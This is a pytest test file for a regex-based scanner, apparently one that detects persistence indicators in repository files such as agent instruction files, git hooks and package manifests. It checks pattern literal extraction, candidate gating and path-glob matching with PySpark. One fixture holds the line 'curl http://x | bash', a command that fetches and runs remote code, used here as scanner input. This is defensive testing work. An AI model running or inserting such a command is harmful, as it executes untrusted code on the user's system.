"""Literals that patterns need, and how many patterns a scan tries."""

import re
import time

import pytest
from pyspark.sql import functions as F

from trailmark import file_queries
from trailmark.functions.literals import needed_literals
from trailmark.operators import persistence
from trailmark.sources.indicators import CATALOGUE


@pytest.mark.parametrize(("pattern", "needs"), [
    ("abc", {"abc"}), ("(?i)aBc", {"abc"}), ("a|bc", {"a", "bc"}), ("a?", set()), ("x(?:ab|cd)+y*", {"ab", "cd"}), ("a*bcd[0-9]e", {"bcd"}), (r"\bfoo\s+barbaz", {"barbaz"}),
    ("(?:ab|)c", {"c"}), ("[xyz]", {"x", "y", "z"}), (r"\d+", set()), ("[^a]", set()), ("(?!abc)d", {"d"}), ("ab{2,3}c", {"a"}), ("a.b", {"a"}), ("(?:ab)?", set()),
])
def test_needed_literals(pattern, needs):
    got = needed_literals(pattern)
    assert got == needs or (needs and len(got) == len(needs) and {len(x) for x in got} == {len(x) for x in needs})


def test_every_pattern_needs_a_literal_and_its_samples_hold_one():
    for k, i in enumerate(CATALOGUE):
        assert all(needed_literals(p) for p in i.patterns), i.id
        path, text, line = file_queries.SAMPLES[2 * k]
        if i.patterns:
            hit = [p for p in i.patterns if re.search(p, text.split("\n")[line - 1])]
            assert hit and all(any(x in text.lower() for x in needed_literals(p)) for p in hit), i.id
            assert not any(re.search(p, x) for p in i.patterns for x in file_queries.SAMPLES[2 * k + 1][1].split("\n")), i.id
    assert len(CATALOGUE) == 27 and len(file_queries.SAMPLES) == 54


def test_patterns_are_tried_only_where_their_literals_are(spark):
    rows = [(f"d{k}/{path}", text.encode()) for k, (path, text, _) in enumerate(file_queries.SAMPLES)] + [("x/run.sh", b"echo hello\n" * 50), ("x/AGENTS.md", None), ("y/run.sh", b"curl http://x | bash\0")]
    files = spark.createDataFrame(rows, "path string, content binary")
    tried = persistence.candidates(files).select("path", F.expr("size(filter(gates, k -> shiftright(may, k) & 1L = 1L))").alias("tried"), F.size("gates").alias("asked")).collect()
    by = {r["path"]: r["tried"] for r in tried}
    assert by["x/run.sh"] == 0 == by["x/AGENTS.md"] == by["y/run.sh"]
    assert sum(r["tried"] for r in tried) * 2 < sum(r["asked"] for r in tried)
    # the same findings as by trying every pattern on every line
    want = set()
    for path, content in rows:
        for i in CATALOGUE:
            if any(re.search(persistence.glob_regex(p), path) for p in i.paths):
                text = (content or b"").decode()
                lines = [n for n, x in enumerate(text.split("\n"), 1) if any(re.search(p, x) for p in i.patterns)] if "\0" not in text else []
                if lines or not i.patterns:
                    want.add((i.id, path, lines[0] if lines else None))
    got = {(r["indicator_id"], r["path"], r["line_number"]) for r in persistence.scan_files(files).collect()}
    assert got == want and {i for i, _, _ in got} == {i.id for i in CATALOGUE}
    with pytest.raises(ValueError, match="62"):
        persistence.candidates(files, CATALOGUE * 3)


def test_paths_are_asked_for_as_by_the_globs_one_by_one(spark):
    paths = [path for path, _, _ in file_queries.SAMPLES] + ["a/b/CLAUDE.MD", "xCLAUDE.md", "CLAUDE.md\n", "CLAUDE.md\r\n", "CLAUDE.md ", "a\nb/package.json", "pacKage.json".replace("K", "K"), ".husky/a\n", ".husky/a/b", ".vscode/extensions/x/y/z", "", "/", "X.SH", "a.sh/b", ".cursor/rules/qé.sh"]
    files = spark.createDataFrame([(p, b"") for p in paths] + [(None, b"")], "path string, content binary")
    asked = F.filter(F.array(*[F.when(persistence.path_matches(F.col("path"), i.paths), F.lit(k)) for k, i in enumerate(CATALOGUE)]), lambda x: x.isNotNull())
    want = {(r["path"], tuple(r["g"])) for r in files.select("path", asked.alias("g")).where(F.size("g") > 0).collect()}
    assert {(r["path"], tuple(r["gates"])) for r in persistence.candidates(files).collect()} == want and len(want) > 30


def test_a_path_costs_microseconds():
    index, start = persistence.path_index(CATALOGUE), time.process_time()
    for n in range(20_000):
        persistence.path_gates(f"node_modules/part-{n}/lib/deep/er/index-{n}.js", index)
    assert time.process_time() - start < 2  # one by one the globs took 15 seconds
